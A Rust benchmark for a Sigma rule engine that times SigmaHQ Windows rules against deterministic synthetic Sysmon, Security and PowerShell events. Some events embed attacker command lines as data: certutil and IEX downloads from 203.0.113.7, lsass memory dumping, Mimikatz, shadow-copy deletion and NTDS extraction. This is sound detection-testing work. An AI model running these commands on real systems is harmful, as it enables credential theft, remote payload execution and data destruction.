//! How fast one evaluator runs the SigmaHQ Windows rules over realistic Windows events, and how
//! long the whole SigmaHQ set takes to compile. The point of the prefilter index is that the
//! cost per event barely grows with the number of rules: compare the 10-rule case with "all".
//!
//! Events are generated here, deterministically, from templates shaped like Sysmon 1/3/11/13,
//! Security 4624/4688/4769 and PowerShell 4104, with about 1% carrying attacker tradecraft.
//! Rules come from `../shared/corpora/sigma`; without it the bench prints a line and measures
//! nothing.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use spoor_event::{Event, LogSource, Position, Value};
use spoor_sigma::{RuleSet, RuleSetBuilder};
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

const EVENTS: usize = 100_000;

fn corpus() -> Option<PathBuf> {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora/sigma");
    if root.is_dir() {
        Some(root)
    } else {
        eprintln!(
            "engine bench: nothing measured, the Sigma corpus {} is absent",
            root.display()
        );
        None
    }
}

/// Every `.yml` file under `dir`, in the order `RuleSetBuilder::add_path` reads them.
fn rule_files(dir: &Path) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for entry in walkdir::WalkDir::new(dir)
        .follow_links(true)
        .sort_by_file_name()
        .into_iter()
        .flatten()
    {
        let p = entry.path();
        if entry.file_type().is_file()
            && matches!(p.extension().and_then(|x| x.to_str()), Some("yml" | "yaml"))
        {
            if let Ok(text) = std::fs::read_to_string(p) {
                out.push((p.display().to_string(), text));
            }
        }
    }
    out
}

fn build(sources: &[(String, String)]) -> RuleSet {
    let mut b = RuleSetBuilder::new();
    for (origin, text) in sources {
        b.add_source(origin, text);
    }
    b.build()
}

/// splitmix64: a small deterministic generator, so every run benches the same events.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items.get(self.below(items.len())).copied().unwrap_or("")
    }
    fn chance(&mut self, per_mille: u64) -> bool {
        self.next() % 1000 < per_mille
    }
    fn guid(&mut self) -> String {
        let a = self.next();
        let b = self.next();
        format!(
            "{{{:08X}-{:04X}-{:04X}-{:04X}-{:012X}}}",
            a >> 32,
            (a >> 16) & 0xFFFF,
            a & 0xFFFF,
            b >> 48,
            b & 0xFFFF_FFFF_FFFF
        )
    }
}

const HOSTS: &[&str] = &[
    "WKS-0113.corp.example",
    "WKS-0421.corp.example",
    "SRV-FS01.corp.example",
    "SRV-WEB02.corp.example",
    "DC01.corp.example",
];
const USERS: &[&str] = &[
    "CORP\\j.smith",
    "CORP\\a.nguyen",
    "CORP\\svc_backup",
    "NT AUTHORITY\\SYSTEM",
    "NT AUTHORITY\\NETWORK SERVICE",
    "CORP\\m.brown",
];

/// (Image, CommandLine, ParentImage, OriginalFileName) of ordinary activity.
const BENIGN_PROCS: &[(&str, &str, &str, &str)] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"C:\Windows\System32\services.exe",
        "svchost.exe",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=7 --mojo-platform-channel-handle=3212 /prefetch:1"#,
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        "chrome.exe",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        r"C:\Windows\System32\cmd.exe",
        "CONHOST.EXE",
    ),
    (
        r"C:\Windows\System32\RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
        r"C:\Windows\System32\svchost.exe",
        "RuntimeBroker.exe",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
        r"C:\Windows\System32\svchost.exe",
        "taskhostw.exe",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#,
        r"C:\Windows\explorer.exe",
        "Outlook.exe",
    ),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        r"C:\Windows\System32\svchost.exe",
        "Wmiprvse.exe",
    ),
    (
        r"C:\Program Files\Git\cmd\git.exe",
        r#""C:\Program Files\Git\cmd\git.exe" status --porcelain"#,
        r"C:\Program Files\Microsoft VS Code\Code.exe",
        "git.exe",
    ),
    (
        r"C:\Windows\System32\backgroundTaskHost.exe",
        r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"#,
        r"C:\Windows\System32\svchost.exe",
        "backgroundTaskHost.exe",
    ),
    (
        r"C:\Windows\System32\msiexec.exe",
        r"C:\Windows\system32\msiexec.exe /V",
        r"C:\Windows\System32\services.exe",
        "msiexec.exe",
    ),
    (
        r"C:\Users\j.smith\AppData\Local\Microsoft\Teams\current\Teams.exe",
        r#""C:\Users\j.smith\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=gpu-process"#,
        r"C:\Users\j.smith\AppData\Local\Microsoft\Teams\current\Teams.exe",
        "Teams.exe",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r#"C:\Windows\system32\cmd.exe /c "C:\ProgramData\Scripts\logon.bat""#,
        r"C:\Windows\explorer.exe",
        "Cmd.Exe",
    ),
];

/// Attacker tradecraft of the kind AA24-190A describes (web shell children, recon, dumping).
const BAD_PROCS: &[(&str, &str, &str, &str)] = &[
    (r"C:\Windows\System32\whoami.exe", "whoami /all", r"C:\Windows\System32\inetsrv\w3wp.exe", "whoami.exe"),
    (r"C:\Windows\System32\certutil.exe", "certutil -urlcache -split -f http://203.0.113.7/a.txt C:\\Users\\Public\\a.exe", r"C:\Windows\System32\cmd.exe", "CertUtil.exe"),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full", r"C:\Windows\System32\cmd.exe", "RUNDLL32.EXE"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", r"C:\Windows\System32\inetsrv\w3wp.exe", "PowerShell.EXE"),
    (r"C:\Windows\System32\nltest.exe", "nltest /dclist:corp.example", r"C:\Windows\System32\cmd.exe", "nltestrk.exe"),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin delete shadows /all /quiet", r"C:\Windows\System32\cmd.exe", "VSSADMIN.EXE"),
    (r"C:\Windows\System32\net.exe", "net group \"domain admins\" /domain", r"C:\Windows\System32\cmd.exe", "net.exe"),
    (r"C:\Windows\System32\ntdsutil.exe", "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\\x\" q q", r"C:\Windows\System32\cmd.exe", "ntdsutil.exe"),
];

fn base(rng: &mut Rng, channel: &str, id: i64, ls: LogSource, n: u64) -> Event {
    let mut ev = Event::new("bench.evtx", Position::Record(n)).with_logsource(ls);
    ev.push("EventID", id);
    ev.push("Channel", channel);
    ev.push("Computer", rng.pick(HOSTS));
    ev
}

fn sysmon(cat: &str) -> LogSource {
    LogSource::new(Some("windows"), Some(cat), Some("sysmon"))
}

fn process(rng: &mut Rng) -> (&'static str, &'static str, &'static str, &'static str) {
    let table = if rng.chance(10) {
        BAD_PROCS
    } else {
        BENIGN_PROCS
    };
    table
        .get(rng.below(table.len()))
        .copied()
        .unwrap_or(BENIGN_PROCS[0])
}

fn sysmon1(rng: &mut Rng, n: u64) -> Event {
    let mut ev = base(
        rng,
        "Microsoft-Windows-Sysmon/Operational",
        1,
        sysmon("process_creation"),
        n,
    );
    let (image, cmd, parent, ofn) = process(rng);
    ev.push("UtcTime", "2024-07-08 03:14:15.926");
    ev.push("ProcessGuid", rng.guid());
    ev.push("ProcessId", (rng.below(60000) + 100) as i64);
    ev.push("Image", image);
    ev.push("FileVersion", "10.0.19041.1 (WinBuild.160101.0800)");
    ev.push("Description", "Windows component");
    ev.push("Product", "Microsoft® Windows® Operating System");
    ev.push("Company", "Microsoft Corporation");
    ev.push("OriginalFileName", ofn);
    ev.push("CommandLine", cmd);
    ev.push("CurrentDirectory", r"C:\Windows\system32\");
    let user = rng.pick(USERS);
    ev.push("User", user);
    ev.push("LogonGuid", rng.guid());
    if user == "NT AUTHORITY\\SYSTEM" {
        ev.push("LogonId", "0x3e7");
    } else {
        ev.push("LogonId", format!("0x{:x}", 0x10000 + rng.below(0xFFFFF)));
    }
    ev.push("TerminalSessionId", 0i64);
    ev.push("IntegrityLevel", rng.pick(&["System", "High", "Medium"]));
    ev.push("Hashes", "SHA256=6A9C3C1B0E5F2D8A7B4C9E1F3A5D7C9B2E4F6A8C0D2E4F6A8B0C2D4E6F8A0B2C,IMPHASH=4A8B1C9D2E3F4A5B6C7D8E9F0A1B2C3D");
    ev.push("ParentProcessGuid", rng.guid());
    ev.push("ParentProcessId", (rng.below(60000) + 100) as i64);
    ev.push("ParentImage", parent);
    ev.push("ParentCommandLine", parent);
    ev.push("ParentUser", rng.pick(USERS));
    ev
}

fn sysmon3(rng: &mut Rng, n: u64) -> Event {
    let mut ev = base(
        rng,
        "Microsoft-Windows-Sysmon/Operational",
        3,
        sysmon("network_connection"),
        n,
    );
    let (image, host, port) = [
        (
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            "www.example.com",
            443i64,
        ),
        (
            r"C:\Windows\System32\svchost.exe",
            "settings-win.data.microsoft.com",
            443,
        ),
        (r"C:\Windows\System32\lsass.exe", "DC01.corp.example", 389),
        (
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "203.0.113.7",
            8080,
        ),
        (
            r"C:\Windows\System32\svchost.exe",
            "SRV-FS01.corp.example",
            445,
        ),
    ][rng.below(5)];
    ev.push("Image", image);
    ev.push("User", rng.pick(USERS));
    ev.push("Protocol", "tcp");
    ev.push("Initiated", "true");
    ev.push("SourceIsIpv6", "false");
    ev.push(
        "SourceIp",
        format!("10.1.{}.{}", rng.below(8), rng.below(250) + 2),
    );
    ev.push("SourceHostname", rng.pick(HOSTS));
    ev.push("SourcePort", (rng.below(20000) + 49152) as i64);
    ev.push("DestinationIsIpv6", "false");
    ev.push(
        "DestinationIp",
        format!(
            "{}.{}.{}.{}",
            rng.below(223) + 1,
            rng.below(256),
            rng.below(256),
            rng.below(254) + 1
        ),
    );
    ev.push("DestinationHostname", host);
    ev.push("DestinationPort", port);
    ev
}

fn sysmon11(rng: &mut Rng, n: u64) -> Event {
    let mut ev = base(
        rng,
        "Microsoft-Windows-Sysmon/Operational",
        11,
        sysmon("file_event"),
        n,
    );
    let (image, target) = if rng.chance(10) {
        [
            (
                r"C:\Windows\System32\inetsrv\w3wp.exe",
                r"C:\inetpub\wwwroot\aspnet_client\system_web\error.aspx",
            ),
            (
                r"C:\Windows\System32\rundll32.exe",
                r"C:\Windows\Temp\lsass.dmp",
            ),
            (
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                r"C:\Users\Public\svchost.exe",
            ),
        ][rng.below(3)]
    } else {
        [
            (
                r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                r"C:\Users\j.smith\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_00a1b2",
            ),
            (
                r"C:\Windows\System32\svchost.exe",
                r"C:\Windows\Prefetch\CHROME.EXE-A1B2C3D4.pf",
            ),
            (
                r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                r"C:\Users\a.nguyen\Documents\Quarterly report.docx",
            ),
            (
                r"C:\Windows\System32\msiexec.exe",
                r"C:\Windows\Installer\4f2a1.msi",
            ),
        ][rng.below(4)]
    };
    ev.push("RuleName", "-");
    ev.push("UtcTime", "2024-07-08 03:14:15.926");
    ev.push("ProcessGuid", rng.guid());
    ev.push("ProcessId", (rng.below(60000) + 100) as i64);
    ev.push("Image", image);
    ev.push("TargetFilename", target);
    ev.push("CreationUtcTime", "2024-07-08 03:14:15.926");
    ev.push("User", rng.pick(USERS));
    ev
}

fn sysmon13(rng: &mut Rng, n: u64) -> Event {
    let mut ev = base(
        rng,
        "Microsoft-Windows-Sysmon/Operational",
        13,
        sysmon("registry_set"),
        n,
    );
    let (image, key, details) = if rng.chance(10) {
        [
            (
                r"C:\Windows\System32\reg.exe",
                r"HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential",
                "DWORD (0x00000001)",
            ),
            (
                r"C:\Users\Public\svchost.exe",
                r"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\Run\Updater",
                r"C:\Users\Public\svchost.exe",
            ),
        ][rng.below(2)]
    } else {
        [
            (
                r"C:\Windows\System32\svchost.exe",
                r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Microsoft\Windows\UpdateOrchestrator\Schedule Scan\Index",
                "DWORD (0x00000003)",
            ),
            (
                r"C:\Windows\explorer.exe",
                r"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx\MRUListEx",
                "Binary Data",
            ),
            (
                r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                r"HKLM\SOFTWARE\Policies\Google\Chrome\MetricsReportingEnabled",
                "DWORD (0x00000000)",
            ),
        ][rng.below(3)]
    };
    ev.push("EventType", "SetValue");
    ev.push("UtcTime", "2024-07-08 03:14:15.926");
    ev.push("ProcessGuid", rng.guid());
    ev.push("ProcessId", (rng.below(60000) + 100) as i64);
    ev.push("Image", image);
    ev.push("TargetObject", key);
    ev.push("Details", details);
    ev.push("User", rng.pick(USERS));
    ev
}

fn security() -> LogSource {
    LogSource::new(Some("windows"), None, Some("security"))
}

fn sec4624(rng: &mut Rng, n: u64) -> Event {
    let mut ev = base(rng, "Security", 4624, security(), n);
    ev.push("SubjectUserSid", "S-1-5-18");
    ev.push("SubjectUserName", "DC01$");
    ev.push("SubjectDomainName", "CORP");
    ev.push("SubjectLogonId", "0x3e7");
    ev.push(
        "TargetUserSid",
        "S-1-5-21-1004336348-1177238915-682003330-1104",
    );
    ev.push(
        "TargetUserName",
        rng.pick(&[
            "j.smith",
            "a.nguyen",
            "svc_backup",
            "ANONYMOUS LOGON",
            "WKS-0113$",
        ]),
    );
    ev.push("TargetDomainName", "CORP");
    ev.push("TargetLogonId", format!("0x{:x}", rng.next() & 0xFF_FFFF));
    ev.push("LogonType", [2i64, 3, 3, 3, 5, 10][rng.below(6)]);
    ev.push(
        "LogonProcessName",
        rng.pick(&["Kerberos", "NtLmSsp ", "User32 ", "Advapi  "]),
    );
    ev.push(
        "AuthenticationPackageName",
        rng.pick(&["Kerberos", "NTLM", "Negotiate"]),
    );
    ev.push("WorkstationName", rng.pick(&["WKS-0113", "WKS-0421", "-"]));
    ev.push("LogonGuid", rng.guid());
    ev.push("LmPackageName", rng.pick(&["-", "NTLM V2", "NTLM V1"]));
    ev.push("KeyLength", 0i64);
    ev.push("ProcessId", "0x2a8");
    ev.push("ProcessName", r"C:\Windows\System32\lsass.exe");
    ev.push(
        "IpAddress",
        format!("10.1.{}.{}", rng.below(8), rng.below(250) + 2),
    );
    ev.push("IpPort", (rng.below(20000) + 49152) as i64);
    ev.push("ElevatedToken", "%%1842");
    ev
}

fn sec4688(rng: &mut Rng, n: u64) -> Event {
    let mut ev = base(rng, "Security", 4688, security(), n);
    let (image, cmd, parent, _) = process(rng);
    ev.push("SubjectUserSid", "S-1-5-18");
    ev.push(
        "SubjectUserName",
        rng.pick(&["WKS-0113$", "j.smith", "svc_backup"]),
    );
    ev.push("SubjectDomainName", "CORP");
    ev.push("SubjectLogonId", "0x3e7");
    ev.push("NewProcessId", format!("0x{:x}", rng.below(60000)));
    ev.push("NewProcessName", image);
    ev.push("TokenElevationType", "%%1936");
    ev.push("ProcessId", format!("0x{:x}", rng.below(60000)));
    ev.push("CommandLine", cmd);
    ev.push("TargetUserSid", "S-1-0-0");
    ev.push("TargetUserName", "-");
    ev.push("TargetDomainName", "-");
    ev.push("TargetLogonId", "0x0");
    ev.push("ParentProcessName", parent);
    ev.push("MandatoryLabel", "S-1-16-16384");
    ev
}

fn sec4769(rng: &mut Rng, n: u64) -> Event {
    let mut ev = base(rng, "Security", 4769, security(), n);
    ev.push("TargetUserName", "j.smith@CORP.EXAMPLE");
    ev.push("TargetDomainName", "CORP.EXAMPLE");
    ev.push(
        "ServiceName",
        rng.pick(&["krbtgt", "SRV-FS01$", "MSSQLSvc", "HTTP/srv-web02"]),
    );
    ev.push(
        "ServiceSid",
        "S-1-5-21-1004336348-1177238915-682003330-1601",
    );
    ev.push("TicketOptions", "0x40810000");
    ev.push(
        "TicketEncryptionType",
        if rng.chance(10) { "0x17" } else { "0x12" },
    );
    ev.push(
        "IpAddress",
        format!("::ffff:10.1.{}.{}", rng.below(8), rng.below(250) + 2),
    );
    ev.push("IpPort", (rng.below(20000) + 49152) as i64);
    ev.push("Status", "0x0");
    ev.push("LogonGuid", rng.guid());
    ev.push("TransmittedServices", "-");
    ev
}

fn ps4104(rng: &mut Rng, n: u64) -> Event {
    let ls = LogSource::new(Some("windows"), Some("ps_script"), Some("powershell"));
    let mut ev = base(rng, "Microsoft-Windows-PowerShell/Operational", 4104, ls, n);
    let text = if rng.chance(10) {
        rng.pick(&[
            "$c = New-Object System.Net.WebClient; IEX $c.DownloadString('http://203.0.113.7/p.ps1')",
            "Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'",
            "Get-ADComputer -Filter * -Properties * | Select-Object Name,OperatingSystem | Export-Csv C:\\Users\\Public\\c.csv",
        ])
    } else {
        rng.pick(&[
            "Set-StrictMode -Version 1; $PSDefaultParameterValues['Out-File:Encoding'] = 'utf8'",
            "function Get-LogonScript { param($Path) Get-Content -Path $Path | Where-Object { $_ -notmatch '^#' } }",
            "Import-Module Microsoft.PowerShell.Management; Get-Service -Name wuauserv | Select-Object Status",
            "prompt",
        ])
    };
    ev.push("MessageNumber", 1i64);
    ev.push("MessageTotal", 1i64);
    ev.push("ScriptBlockText", text);
    ev.push("ScriptBlockId", rng.guid());
    ev.push("Path", Value::str(""));
    ev
}

/// Shares field names and log sources between events, as spoor's readers do (they intern
/// names per thread and clone log sources from a table): otherwise every event would carry
/// twenty private name allocations and the bench would measure cache misses on them.
fn intern(events: &mut [Event]) {
    let mut names: HashMap<Arc<str>, Arc<str>> = HashMap::new();
    let mut sources: HashMap<LogSource, LogSource> = HashMap::new();
    for e in events {
        for (k, _) in &mut e.fields {
            *k = names.entry(k.clone()).or_insert_with(|| k.clone()).clone();
        }
        e.logsource = sources
            .entry(e.logsource.clone())
            .or_insert_with(|| e.logsource.clone())
            .clone();
    }
}

/// The fixed event set: Sysmon 1 and Security 4688 most often, as in real hunts.
fn events() -> Vec<Event> {
    let mut rng = Rng(0x5A0A_2024_0708);
    let mut events: Vec<Event> = (0..EVENTS as u64)
        .map(|n| match rng.below(20) {
            0..=5 => sysmon1(&mut rng, n),
            6..=8 => sysmon3(&mut rng, n),
            9..=10 => sysmon11(&mut rng, n),
            11..=12 => sysmon13(&mut rng, n),
            13..=14 => sec4624(&mut rng, n),
            15..=16 => sec4688(&mut rng, n),
            17 => sec4769(&mut rng, n),
            _ => ps4104(&mut rng, n),
        })
        .collect();
    intern(&mut events);
    events
}

fn run(set: &RuleSet, events: &[Event]) -> (usize, usize) {
    let mut ev = set.evaluator();
    let (mut hits, mut cands) = (0, 0);
    for e in events {
        ev.for_each_match(e, |_| hits += 1);
        cands += ev.last_candidates();
    }
    (hits, cands)
}

/// Prints the rules that match most often: on mostly benign events, a rule near the top is
/// either a noisy rule or an engine bug, worth a look.
fn top_matches(set: &RuleSet, events: &[Event], label: &str) {
    let mut counts: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
    let mut cands: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
    let mut ev = set.evaluator();
    for e in events {
        ev.for_each_match(e, |m| *counts.entry(m.title.clone()).or_default() += 1);
        for m in ev.last_candidate_rules() {
            *cands.entry(m.title.clone()).or_default() += 1;
        }
    }
    for (what, map) in [("matches", counts), ("candidate", cands)] {
        let mut top: Vec<(String, usize)> = map.into_iter().collect();
        top.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        for (title, n) in top.iter().take(12) {
            eprintln!("  {label} {what}: {n:>6} x {title}");
        }
    }
}

fn benches(c: &mut Criterion) {
    let Some(root) = corpus() else { return };
    let windows = rule_files(&root.join("rules/windows"));
    let events = events();
    let mut group = c.benchmark_group("evaluate_100k_windows_events");
    group.sample_size(10);
    group.throughput(Throughput::Elements(events.len() as u64));
    // The first N files in file order, as asked; and 10 files spread evenly over the folder, a
    // baseline whose rules cover the same log sources as the whole set.
    let step = (windows.len() / 10).max(1);
    let spread: Vec<(String, String)> = windows.iter().step_by(step).take(10).cloned().collect();
    let mut cases: Vec<(String, Vec<(String, String)>)> = [10, 100, 1000]
        .iter()
        .map(|&n| (n.to_string(), windows.get(..n).unwrap_or(&windows).to_vec()))
        .collect();
    cases.insert(1, ("10_spread".to_string(), spread));
    cases.push(("all".to_string(), windows.clone()));
    for (label, files) in cases {
        let n = files.len();
        let set = build(&files);
        top_matches(&set, &events, &label);
        let (hits, cands) = run(&set, &events);
        // The best of three passes: a quick figure that a noisy machine disturbs less than a mean.
        let best = (0..3)
            .map(|_| {
                let t = std::time::Instant::now();
                std::hint::black_box(run(&set, &events));
                t.elapsed()
            })
            .min()
            .unwrap_or_default();
        eprintln!(
            "rules {label}: best of 3 passes {:.1} ms, {:.0} events/s",
            best.as_secs_f64() * 1e3,
            events.len() as f64 / best.as_secs_f64().max(1e-9)
        );
        eprintln!(
            "rules {label}: {} files, {} rules run, {} without requirement; {hits} matches, {:.2} candidate rules per event",
            n,
            set.len(),
            set.unindexed_rules(),
            cands as f64 / events.len() as f64
        );
        group.bench_with_input(BenchmarkId::from_parameter(&label), &set, |b, set| {
            b.iter(|| run(set, &events))
        });
    }
    group.finish();

    let mut all = Vec::new();
    for dir in [
        "rules",
        "rules-emerging-threats",
        "rules-threat-hunting",
        "rules-placeholder",
    ] {
        all.extend(rule_files(&root.join(dir)));
    }
    let mut group = c.benchmark_group("compile");
    group.sample_size(10);
    group.measurement_time(Duration::from_secs(10));
    let set = build(&all);
    eprintln!(
        "compile: {} files, {} reports, {} rules run",
        all.len(),
        set.reports().len(),
        set.len()
    );
    group.bench_function("sigmahq_all_folders", |b| b.iter(|| build(&all).len()));
    group.finish();
}

criterion_group!(engine, benches);
criterion_main!(engine);
